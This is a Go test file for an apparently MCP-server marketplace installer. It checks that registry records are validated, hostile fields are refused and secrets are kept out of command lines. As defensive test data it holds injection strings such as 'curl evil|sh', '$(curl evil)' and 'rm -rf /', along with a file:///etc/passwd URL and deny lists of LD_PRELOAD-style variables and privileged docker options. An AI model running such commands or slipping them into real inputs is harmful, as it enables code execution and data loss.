package marketplace

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"github.com/drawbridge-mcp/drawbridge/backend/core"
	"github.com/drawbridge-mcp/drawbridge/config"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const honest = `{"name":"io.github.me/weather-mcp","description":"d","version":"1.2.3","packages":[{"registryType":"npm","identifier":"@me/weather","version":"1.2.3","runtimeHint":"npx","transport":{"type":"stdio"},
 "packageArguments":[{"type":"positional","valueHint":"folder","isRequired":true,"isRepeated":true},{"type":"named","name":"--unit","default":"c","choices":["c","f"]},{"type":"named","name":"--quiet"}],
 "environmentVariables":[{"name":"WEATHER_KEY","isRequired":true,"isSecret":true},{"name":"LEVEL","value":"{level}-x","variables":{"level":{"default":"info"}}},{"name":"OTHER"}]}],
 "remotes":[{"type":"streamable-http","url":"https://{region}.weather.example/mcp","variables":{"region":{"isRequired":true}},"headers":[{"name":"Authorization","value":"Bearer {token}","isSecret":true,"variables":{"token":{"isRequired":true}}}]}]}`

func TestRecordBecomesEntryWithSeparateSecrets(t *testing.T) {
	r, err := Parse([]byte(honest))
	require.NoError(t, err)
	ways := r.Options()
	require.Truef(t, len(ways) == 2 && ways[0].Launcher == "npx" && ways[0].Pinned && len(ways[0].Fields) == 5 && ways[0].Fields[2].Secret, "%+v", ways)
	plan, err := r.Install(0, "", map[string]string{"arg.0": "/a\n/b; rm -rf /", "arg.1": "f", "env.WEATHER_KEY": "k$1"})
	require.NoError(t, err)
	want := `{"command":"npx","args":["-y","@me/weather@1.2.3","/a","/b; rm -rf /","--unit","f","--quiet"],"env":{"LEVEL":"info-x","WEATHER_KEY":"${secret:WEATHER_WEATHER_KEY}"}}`
	if string(plan.Entry) != want || plan.Secrets["WEATHER_WEATHER_KEY"] != "k$1" || plan.Label != "weather" {
		t.Errorf("%s\n%s\n%v", plan.Entry, want, plan.Secrets)
	}
	plan, err = r.Install(1, "w", map[string]string{"url.region": "eu", "header.Authorization.token": "t"})
	require.NoError(t, err)
	require.Equal(t, `{"type":"http","url":"https://eu.weather.example/mcp","headers":{"Authorization":"Bearer ${secret:W_TOKEN}"}}`, string(plan.Entry))
	for way, values := range []map[string]string{
		{"arg.0": "--evil", "env.WEATHER_KEY": "k"}, {"url.region": "evil.example/x?", "header.Authorization.token": "t"},
	} {
		_, err = r.Install(way, "", values)
		assert.Errorf(t, err, "%v is taken", values)
	}
	_, err = r.Install(0, "", map[string]string{"arg.0": "/a"})
	assert.True(t, err != nil && strings.Contains(err.Error(), "required"), err)
}

func TestPlaceholderIsNoDefault(t *testing.T) {
	r, err := Parse([]byte(pack1("npm", "@x/y", `,"packageArguments":[{"type":"positional","valueHint":"folder","isRequired":true,"default":"/path/to/data"}]`)))
	require.NoError(t, err)
	field := r.Options()[0].Fields[0]
	assert.Truef(t, field.Required && field.Default == "" && field.Placeholder == "/path/to/data", "%+v", field)
	_, err = r.Install(0, "", nil)
	assert.ErrorContains(t, err, "folder is required")
}

// pack1 returns a record with one package; the parts are JSON.
func pack1(kind, identifier, more string) string {
	return fmt.Sprintf(`{"name":"io.x/y","description":"d","packages":[{"registryType":%q,"identifier":%q,"transport":{"type":"stdio"}%s}]}`, kind, identifier, more)
}

func TestHostileRecordsAreRefused(t *testing.T) {
	npm := func(more string) string { return pack1("npm", "good", ","+more) }
	for name, c := range map[string]struct{ src, want string }{
		"a name that is an option":     {pack1("npm", "--eval=evil()", ""), "not a valid name for a package"},
		"a short option":               {pack1("npm", "-p", ""), "not a valid name for a package"},
		"a path":                       {pack1("npm", "../evil", ""), "not a valid name for a package"},
		"an address as package":        {pack1("npm", "https://evil.example/x.tgz", ""), "not a valid name for a package"},
		"a repository as package":      {pack1("npm", "github:evil/x", ""), "not a valid name for a package"},
		"an alias":                     {pack1("npm", "good@npm:evil", ""), "not a valid name for a package"},
		"metacharacters":               {pack1("npm", "good; curl evil", ""), "not a valid name for a package"},
		"a second line":                {pack1("npm", "good\n--eval", ""), "not a valid name for a package"},
		"an option of uvx":             {pack1("pypi", "--from=git+https://evil", ""), "not a valid name for a package"},
		"an option of docker":          {pack1("oci", "--privileged", ""), "not a valid name for a package"},
		"a version that is an option":  {npm(`"version":"--eval"`), "not a fixed package version"},
		"a version that is a range":    {npm(`"version":"^1.0.0"`), "not a fixed package version"},
		"latest":                       {npm(`"version":"latest"`), "not a fixed package version"},
		"a shell as runtime":           {npm(`"runtimeHint":"bash"`), "only be run with npx"},
		"a path as runtime":            {npm(`"runtimeHint":"/tmp/npx"`), "only be run with npx"},
		"another runtime":              {npm(`"runtimeHint":"docker"`), "only be run with npx"},
		"an unknown type":              {pack1("cargo", "x", ""), "cannot be installed"},
		"another registry":             {npm(`"registryBaseUrl":"https://evil.example"`), "public registry"},
		"npx --call":                   {npm(`"runtimeArguments":[{"type":"named","name":"--call","value":"evil"}]`), "is not allowed"},
		"npx -c":                       {npm(`"runtimeArguments":[{"type":"named","name":"-c","value":"evil"}]`), "is not allowed"},
		"npx --package":                {npm(`"runtimeArguments":[{"type":"named","name":"--package","value":"evil"}]`), "is not allowed"},
		"npx --registry":               {npm(`"runtimeArguments":[{"type":"positional","value":"evil"}]`), "is not allowed"},
		"npx with an option asked for": {npm(`"runtimeArguments":[{"type":"named","name":"--yes","valueHint":"x"}]`), "is not allowed"},
		"--eval":                       {npm(`"packageArguments":[{"type":"named","name":"--eval","value":"evil"}]`), "run arbitrary code"},
		"--require":                    {npm(`"packageArguments":[{"type":"named","name":"--REQUIRE","value":"/tmp/x"}]`), "run arbitrary code"},
		"a positional option":          {npm(`"packageArguments":[{"type":"positional","value":"--eval=evil"}]`), "begins with a dash"},
		"a default that is an option":  {npm(`"packageArguments":[{"type":"positional","default":"-e"}]`), "begins with a dash"},
		"a name with a space":          {npm(`"packageArguments":[{"type":"named","name":"--a --eval"}]`), "valid argument name"},
		"a name without dashes":        {npm(`"packageArguments":[{"type":"named","name":"rm"}]`), "valid argument name"},
		"metacharacters in a value":    {npm(`"packageArguments":[{"type":"named","name":"--a","value":"x;curl evil|sh"}]`), "special meaning"},
		"a substitution":               {npm(`"packageArguments":[{"type":"named","name":"--a","value":"$(curl evil)"}]`), "special meaning"},
		"backticks":                    {npm("\"packageArguments\":[{\"type\":\"named\",\"name\":\"--a\",\"value\":\"`id`\"}]"), "special meaning"},
		"somebody else's secret":       {npm(`"packageArguments":[{"type":"named","name":"--a","value":"${secret:GITHUB_TOKEN}"}]`), "special meaning"},
		"a secret by default":          {npm(`"environmentVariables":[{"name":"A","default":"${env:AWS_SECRET}"}]`), "special meaning"},
		"a secret among choices":       {npm(`"environmentVariables":[{"name":"A","choices":["${secret:X}"]}]`), "special meaning"},
		"a secret in a part":           {npm(`"environmentVariables":[{"name":"A","value":"{x}","variables":{"x":{"value":"${secret:X}"}}}]`), "special meaning"},
		"a second line in a value":     {npm(`"environmentVariables":[{"name":"A","value":"a\nb"}]`), "special meaning"},
		"a published secret":           {npm(`"environmentVariables":[{"name":"A","isSecret":true,"value":"abc"}]`), "server.json contains its value"},
		"NODE_OPTIONS":                 {npm(`"environmentVariables":[{"name":"NODE_OPTIONS","value":"x"}]`), "changes how programs start"},
		"node_options":                 {npm(`"environmentVariables":[{"name":"node_options"}]`), "changes how programs start"},
		"LD_PRELOAD":                   {npm(`"environmentVariables":[{"name":"LD_PRELOAD"}]`), "changes how programs start"},
		"DYLD_INSERT_LIBRARIES":        {npm(`"environmentVariables":[{"name":"DYLD_INSERT_LIBRARIES"}]`), "changes how programs start"},
		"npm_config_registry":          {npm(`"environmentVariables":[{"name":"npm_config_registry"}]`), "changes how programs start"},
		"PYTHONSTARTUP":                {pack1("pypi", "x", `,"environmentVariables":[{"name":"PYTHONSTARTUP"}]`), "changes how programs start"},
		"UV_INDEX_URL":                 {pack1("pypi", "x", `,"environmentVariables":[{"name":"UV_INDEX_URL"}]`), "changes how programs start"},
		"PATH":                         {npm(`"environmentVariables":[{"name":"PATH"}]`), "changes how programs start"},
		"HTTPS_PROXY":                  {npm(`"environmentVariables":[{"name":"HTTPS_PROXY"}]`), "changes how programs start"},
		"BASH_ENV":                     {npm(`"environmentVariables":[{"name":"BASH_ENV"}]`), "changes how programs start"},
		"a variable with =":            {npm(`"environmentVariables":[{"name":"A=B;LD_PRELOAD"}]`), "not a valid name for an environment variable"},
		"uvx --from":                   {pack1("pypi", "x", `,"runtimeArguments":[{"type":"named","name":"--from","value":"evil"}]`), "is not allowed"},
		"docker --privileged":          {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"--privileged"}]`), "is not allowed"},
		"docker of the whole disk":     {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"-v","value":"/:/host"}]`), "is not allowed"},
		"docker's socket":              {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"-v","value":"{a}:/var/run/docker.sock","variables":{"a":{}}}]`), "is not allowed"},
		"docker --network host":        {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"--network","value":"host"}]`), "is not allowed"},
		"docker --entrypoint":          {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"--entrypoint","value":"sh"}]`), "is not allowed"},
		"docker -e LD_PRELOAD":         {pack1("oci", "x/y:1", `,"runtimeArguments":[{"type":"named","name":"-e","value":"LD_PRELOAD=x"}]`), "is not allowed"},
		"an address without https":     {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"http://evil.example/mcp"}]}`, "neither https"},
		"another scheme":               {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"file:///etc/passwd"}]}`, "not a URL"},
		"a password in an address":     {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"https://a:b@evil.example"}]}`, "user name or password"},
		"a secret in an address":       {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"https://evil.example/${secret:X}"}]}`, "characters"},
		"a host header":                {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"https://a.example","headers":[{"name":"Host","value":"b"}]}]}`, "cannot be set by an installation"},
		"a split header":               {`{"name":"io.x/y","description":"d","remotes":[{"type":"sse","url":"https://a.example","headers":[{"name":"A","value":"b\r\nC: d"}]}]}`, "control characters"},
		"a path as a name":             {`{"name":"../../x/y","description":"d","remotes":[{"type":"sse","url":"https://a.example"}]}`, "domain/name"},
		"nothing to install":           {`{"name":"io.x/y","description":"d"}`, "neither a package"},
		"terminal sequences":           {`{"name":"io.x/y","description":"\u001b[2Jd","remotes":[{"type":"sse","url":"https://a.example"}]}`, "control characters"},
		"no JSON":                      {`{`, "cannot read"},
		"endless":                      {`{"name":"io.x/y","description":"` + strings.Repeat("x", maxRecord) + `"}`, "larger than"},
	} {
		_, err := Parse([]byte(c.src))
		assert.Truef(t, err != nil && strings.Contains(err.Error(), c.want), "%s: %v, want %q", name, err, c.want)
	}
}

// For any record and any user input: the command is an allowed program that starts with our
// options, the package name is valid, and only secrets created for this installation are
// referenced.
func FuzzRecord(f *testing.F) {
	f.Add([]byte(honest), "/a", "x")
	f.Add([]byte(pack1("npm", "--eval", "")), "a", "b")
	f.Add([]byte(pack1("oci", "ghcr.io/x/y:1", `,"runtimeArguments":[{"type":"named","name":"-e","value":"A={a}","variables":{"a":{"isSecret":true}}}]`)), "v", "w")
	f.Add([]byte(pack1("npm", "good", `,"environmentVariables":[{"name":"NODE_OPTIONS"}]`)), "v", "w")
	f.Fuzz(func(t *testing.T, src []byte, a, b string) {
		r, err := Parse(src)
		if err != nil {
			return
		}
		for n, way := range r.Options() {
			values := map[string]string{}
			for i, field := range way.Fields {
				if values[field.Key] = a; i%2 == 1 {
					values[field.Key] = b
				}
				if len(field.Choices) > 0 {
					values[field.Key] = field.Choices[0]
				}
			}
			plan, err := r.Install(n, "", values)
			if err != nil {
				continue
			}
			var entry struct {
				Command string
				Args    []string
				Env     map[string]string
				URL     string
			}
			require.NoError(t, json.Unmarshal(plan.Entry, &entry))
			if entry.Command == "" {
				require.NoError(t, requireHTTPSOrLoopback(strings.ReplaceAll(entry.URL, "${secret:", "")), "the address")
				continue
			}
			require.Contains(t, []string{"npx", "uvx", "docker", "dnx"}, entry.Command, "it would run")
			for name := range entry.Env {
				require.NoError(t, checkVariableName(name), "it would set")
			}
			if !strings.Contains(a+b, "${") && strings.Count(string(plan.Entry), "${") != strings.Count(string(plan.Entry), "${secret:") {
				t.Fatalf("it would expand something: %s", plan.Entry)
			}
		}
	})
}

func TestEmbeddedRecordsAreInstallable(t *testing.T) {
	all, taken := NewList(filepath.Join(t.TempDir(), "directory.json")).All()
	require.Truef(t, len(all) >= 20 && len(all) <= 40 && taken.IsZero(), "%d servers, taken %s", len(all), taken)
	seen, labels := map[string]bool{}, map[string]string{}
	for _, e := range all {
		if other := labels[e.Record.Label()]; other != "" && other != e.Record.Title+" (hosted)" && e.Record.Title != other+" (hosted)" {
			t.Errorf("%s and %s would both be called %s", other, e.Record.Title, e.Record.Label())
		}
		labels[e.Record.Label()] = e.Record.Title
		if e.Refused != "" || seen[e.Record.Name] || e.Record.Description == "" || e.Record.Title == "" {
			t.Errorf("%s: %s", e.Record.Name, e.Refused)
		}
		seen[e.Record.Name] = true
		for n, way := range e.Record.Options() {
			values := map[string]string{}
			for _, f := range way.Fields {
				if f.Required {
					values[f.Key] = "value"
				}
			}
			plan, err := e.Record.Install(n, "", values)
			if err != nil {
				t.Errorf("%s: %v", e.Record.Name, err)
				continue
			}
			c, problems := config.Parse("c.json", []byte(`{"mcpServers":{"x":`+string(plan.Entry)+`}}`))
			if c == nil || len(c.Servers) != 1 || len(problems) > 0 {
				t.Errorf("%s: %s: %v", e.Record.Name, plan.Entry, problems)
			}
		}
	}
}

// People type what they call a server, not its id.
func TestDirectoryFindsServersByTheirWords(t *testing.T) {
	l := NewList(filepath.Join(t.TempDir(), "directory.json"))
	all, _ := l.All()
	for words, want := range map[string]string{"github": "io.github.github/github-mcp-server", "git": "io.github.modelcontextprotocol/server-git", "memory": "io.github.modelcontextprotocol/server-memory", "web search": "io.github.brave/brave-search-mcp-server"} {
		found := matchingEntries(all, strings.Fields(words))
		if len(found) == 0 || found[0].Record.Name != want || len(found) > 6 {
			t.Errorf("%s finds %d, first %+v", words, len(found), found[:min(1, len(found))])
		}
	}
	for name, want := range map[string]string{"memory": "io.github.modelcontextprotocol/server-memory", "server-memory": "io.github.modelcontextprotocol/server-memory", "mem": "", "github": "io.github.github/github-mcp-server"} {
		if e, err := l.Find(name); want == "" && core.CodeOf(err) != core.CodeNotFound || want != "" && (err != nil || e.Record.Name != want) {
			t.Errorf("%s finds %+v, %v", name, e.Record, err)
		}
	}
}

func TestFailedRefreshKeepsOldList(t *testing.T) {
	path := filepath.Join(t.TempDir(), "directory.json")
	l := NewList(path)
	answer := func(w http.ResponseWriter, r *http.Request) {
		next, hostile := `"nextCursor":"2"`, ""
		if r.URL.Query().Get("cursor") == "2" {
			next, hostile = `"count":1`, `,{"server":`+pack1("npm", "--eval", "")+`},{"server":{"name":"bad"}},{"server":`+honest+`,"_meta":{"io.modelcontextprotocol.registry/official":{"status":"deleted"}}}`
		}
		fmt.Fprintf(w, `{"servers":[{"server":{"name":"io.x/s%s","description":"d","remotes":[{"type":"sse","url":"https://a.example"}]}}%s],"metadata":{%s}}`, r.URL.Query().Get("cursor"), hostile, next)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { answer(w, r) }))
	defer srv.Close()
	n, err := l.Refresh(t.Context(), srv.URL)
	require.NoError(t, err)
	require.Equal(t, 3, n)
	all, taken := l.All()
	before := len(all)
	assert.False(t, taken.IsZero(), "nobody knows when it was taken")
	_, err = l.Find("io.x/s2")
	assert.NoError(t, err)
	e, err := l.Find("io.x/y")
	assert.Truef(t, err != nil && strings.Contains(err.Error(), "not a valid name for a package") && len(e.Record.Packages) <= 0, "%+v %v", e, err)
	for what, f := range map[string]http.HandlerFunc{
		"an error": func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusInternalServerError) },
		"no JSON":  func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "<html>") },
		"endless":  func(w http.ResponseWriter, _ *http.Request) { w.Write(make([]byte, maxSnapshot+2)) },
		"a way out": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://evil.example/", http.StatusFound)
		},
	} {
		answer = f
		_, err = l.Refresh(t.Context(), srv.URL)
		assert.Errorf(t, err, "%s is taken", what)
	}
	for _, base := range []string{"http://registry.example", "file:///etc", "https://a:b@x.example", "ftp://x"} {
		_, err = l.Refresh(t.Context(), base)
		assert.Errorf(t, err, "%s is asked", base)
	}
	if all, _ := NewList(path).All(); len(all) != before {
		t.Errorf("%d servers, there were %d", len(all), before)
	}
}

func TestDockerSecretIsNotOnCommandLine(t *testing.T) {
	r, err := Parse([]byte(pack1("oci", "ghcr.io/x/y:1.0", `,"runtimeArguments":[{"type":"positional","value":"run"},{"type":"named","name":"-i","value":"true"},
	 {"type":"named","name":"-e","value":"TOKEN={token}","isRequired":true,"variables":{"token":{"isRequired":true,"isSecret":true}}}]`)))
	require.NoError(t, err)
	plan, err := r.Install(0, "y", map[string]string{"runtime.2.token": "s3cret"})
	require.NoError(t, err)
	assert.Equal(t, `{"command":"docker","args":["run","-i","--rm","-e","TOKEN","ghcr.io/x/y:1.0"],"env":{"TOKEN":"${secret:Y_TOKEN}"}}`, string(plan.Entry))
	line := r.Options()[0].Command
	assert.Truef(t, line[len(line)-1] == "ghcr.io/x/y:1.0" && line[len(line)-2] == "TOKEN", "%q", line)
}

func TestAmbiguousDocumentsAreRefused(t *testing.T) {
	for name, c := range map[string]struct{ src, want string }{
		"a key twice":              {`{"identifier":"good","identifier":"evil"}`, "twice"},
		"a key in other letters":   {`{"identifier":"good","IDENTIFIER":"evil"}`, "twice"},
		"a key by an escape":       {`{"identifier":"good","\u0069dentifier":"evil"}`, "twice"},
		"deep inside":              {`{"a":[{"b":{"c":1,"C":2}}]}`, "twice"},
		"deep nesting":             {strings.Repeat(`{"a":`, 60) + "1" + strings.Repeat("}", 60), "nested deeper"},
		"deeper than any parser":   {strings.Repeat("[", 200000), "nested deeper"},
		"two values":               {`{} {}`, "more than one"},
		"half a value":             {`{"a":`, "cannot read"},
		"nothing":                  {``, ""},
		"a word":                   {`nonsense`, "cannot read"},
		"a value like its key":     {`{"a":"b","b":"a","c":"a"}`, ""},
		"one key in two objects":   {`[{"a":1},{"a":2}]`, ""},
		"objects behind one key":   {`{"a":{"a":{"a":[]}},"b":{"a":null}}`, ""},
		"a string as a first word": {`"text"`, ""},
	} {
		err := CheckStrictJSON("the file", []byte(c.src))
		if c.want == "" && err != nil || c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
			t.Errorf("%s: %v, want %q", name, err, c.want)
		}
	}
}

// Accepted text has one meaning: parsers that use the first and the last of two duplicate keys
// agree, because there are no duplicates.
func FuzzStrict(f *testing.F) {
	for _, s := range []string{`{"a":1}`, `{"a":1,"a":2}`, `[[["x"]]]`, `{"a":{"b":[{"c":null}]}}`, `1 2`, `"a"`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		if CheckStrictJSON("it", src) != nil {
			return
		}
		require.Falsef(t, len(strings.TrimSpace(string(src))) > 0 && !json.Valid(src), "%q passes and is not JSON", src)
	})
}

func TestDuplicateKeyIsRefused(t *testing.T) {
	src := strings.Replace(honest, `"identifier":"@me/weather"`, `"identifier":"@me/weather","Identifier":"@evil/weather"`, 1)
	_, err := Parse([]byte(src))
	assert.Truef(t, err != nil && strings.Contains(err.Error(), "twice"), "the record: %v", err)
	manifest := strings.Replace(nodeManifest, `"command":"node"`, `"command":"node","Command":"node"`, 1)
	_, err = ReadBundle(pack(t, zipped{name: "manifest.json", body: manifest}, zipped{name: "server/index.js", body: "x"}))
	assert.Truef(t, err != nil && strings.Contains(err.Error(), "twice"), "the manifest: %v", err)
	for name, src := range map[string]string{
		"a package that is a list": `{"name":"io.x/y","description":"d","packages":[[]]}`,
		"packages that are a word": `{"name":"io.x/y","description":"d","packages":"npm"}`,
		"a name that is a number":  `{"name":7,"description":"d"}`,
		"arguments as an object":   pack1("npm", "good", `,"packageArguments":{"0":{"type":"positional","value":"x"}}`),
		"a flag for a value":       pack1("npm", "good", `,"packageArguments":[{"type":"named","name":"--a","value":true}]`),
		"parts of parts":           pack1("npm", "good", `,"environmentVariables":[{"name":"A","value":"{x}","variables":{"x":{"variables":{"y":{"variables":{"z":{}}}}}}}]`),
	} {
		_, err = Parse([]byte(src))
		assert.Errorf(t, err, "%s is taken", name)
	}
}
